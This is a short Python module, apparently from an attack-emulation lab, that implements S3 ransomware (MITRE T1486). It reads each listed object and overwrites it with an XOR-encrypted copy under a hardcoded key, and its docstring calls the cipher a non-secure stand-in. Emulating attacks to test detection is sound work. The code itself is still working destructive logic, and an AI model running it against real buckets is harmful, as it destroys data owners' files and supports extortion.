"""s3-ransomware-client-side-encryption: overwrite every object with its encrypted copy (T1486)."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

from lab.attacks.s3_ransomware import S3RansomwareTechnique

KEY = hashlib.sha256(b"attacker's key, never shared").digest()


def encrypted(body: bytes) -> bytes:
    """A stand-in for the attacker's cipher (XOR with a keystream): the bytes change, the size
    does not; nothing here needs to be secure."""
    stream = (KEY * (len(body) // len(KEY) + 1))[: len(body)]
    return bytes(a ^ b for a, b in zip(body, stream, strict=True))


class S3RansomwareClientSideEncryption(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-encryption"

    def ransom(self, s3: Any, bucket: str, keys: list[str]) -> None:
        for key in keys:
            body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
            s3.put_object(Bucket=bucket, Key=key, Body=encrypted(body))


TECHNIQUE = S3RansomwareClientSideEncryption
